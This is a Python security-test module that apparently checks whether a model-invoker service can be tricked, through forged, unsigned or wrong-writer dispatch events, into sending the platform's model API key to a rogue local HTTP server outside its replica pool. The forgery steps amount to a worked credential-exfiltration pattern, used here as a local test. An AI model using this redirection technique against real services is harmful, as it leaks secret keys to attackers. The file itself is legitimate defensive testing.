"""Forged model-call dispatches (issue 13, finding 4). Each attack returns True when it SUCCEEDED.

`LlmCallDispatched` tells the model invoker which replica's URL gets the call, with the platform's
model key. `dispatch_to_rogue` dispatches a call to a real local HTTP server outside the replica
pool: signed by the dispatcher's own key, under a pool replica's name, unsigned, and from the wrong
writer. It succeeds if the rogue receives anything. `invoker_stage` runs the real model invoker in
this process with a one-replica pool (the scripted model). The pool check has no switch.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import time
import uuid
from collections.abc import AsyncIterator
from dataclasses import dataclass, replace
from pathlib import Path

from agentstream import ids
from agentstream.client.journal import JournalClient
from agentstream.config import Settings
from agentstream.events import LlmCallDispatched, LlmCallRequested
from bench.attacks.trust import SETTLE_S, TrustStage

# -- LlmCallDispatched: send the platform's model key to a URL outside the replica pool --------------


@dataclass
class Rogue:
    """A real local HTTP endpoint that records whoever reaches it (and what authorization they sent)."""

    hits: list[bytes]
    url: str
    server: asyncio.Server


async def start_rogue() -> Rogue:
    hits: list[bytes] = []

    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(Exception):
            hits.append(await asyncio.wait_for(reader.read(65536), 5))
            writer.write(b"HTTP/1.1 500 Internal Server Error\r\ncontent-length: 0\r\nconnection: close\r\n\r\n")
            await writer.drain()
        writer.close()

    server = await asyncio.start_server(handle, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    return Rogue(hits, f"http://127.0.0.1:{port}", server)


def dispatch_of(request: LlmCallRequested, replica: str, url: str) -> LlmCallDispatched:
    return LlmCallDispatched(f"{request.call_id}/dispatched", request.run_id, request.tenant_id, step=request.step,
                             call_id=request.call_id, session=request.run_id, replica=replica, url=url,
                             policy="forged", reason="forged", decided_ms=int(time.time() * 1000))  # fmt: skip


@contextlib.asynccontextmanager
async def invoker_stage(settings: Settings, scenario_dir: Path) -> AsyncIterator[tuple[TrustStage, str]]:
    """The real model invoker (in this process) with a one-replica pool, the scripted model as that
    replica, and the platform's model key configured. Yields a stage and the pool replica's URL."""
    from agentstream.config import ModelSettings
    from agentstream.process import serve
    from agentstream.processors.model_invoker.app import build
    from agentstream.settings import CostSettings, KvSettings
    from agentstream.stack import ScriptedModel

    model = ScriptedModel([scenario_dir])
    url = await model.start()
    invoker_settings = replace(
        settings, model=ModelSettings(base_url=url, api_key=PLATFORM_MODEL_KEY),
        kv=KvSettings(replicas={"r0": url}), cost=CostSettings(governor=False),
    )  # fmt: skip
    stop = asyncio.Event()
    task = asyncio.create_task(serve(build, invoker_settings, "trust", stop))
    client = JournalClient(settings)
    try:
        yield TrustStage(client, settings), url
    finally:
        stop.set()
        await asyncio.wait_for(task, 30)
        await client.aclose()
        model.stop()


PLATFORM_MODEL_KEY = "sk-platform-model-key-never-leaves"


def model_request(run_id: str) -> LlmCallRequested:
    call_id = ids.llm_call_id(run_id, 1)
    messages = json.dumps([{"role": "user", "content": "[scenario:demo] hello"}])
    return LlmCallRequested(ids.requested_event_id(call_id), run_id, "acme", step=1, call_id=call_id,
                            model="scripted", messages_json=messages, tools_json="[]", max_tokens=64)  # fmt: skip


async def dispatch_to_rogue(stage: TrustStage, rogue: Rogue) -> bool:
    """A model call, then dispatches of it to the rogue URL: signed by the dispatcher's own key but
    outside the pool, under a replica name of the pool, unsigned, and from the wrong writer."""
    request = model_request(f"run_rogue{uuid.uuid4().hex[:8]}")
    await stage.client.append(request, as_writer="orchestrator")
    stage.produce(dispatch_of(request, "rogue", rogue.url), writer="kv-dispatcher", keys="kv-dispatcher")
    stage.produce(dispatch_of(request, "r0", rogue.url), writer="kv-dispatcher", keys="kv-dispatcher")
    stage.produce(dispatch_of(request, "r0", rogue.url), writer=None)
    stage.produce(dispatch_of(request, "r0", rogue.url), writer="orchestrator", keys="orchestrator")
    await asyncio.sleep(SETTLE_S)
    return bool(rogue.hits)
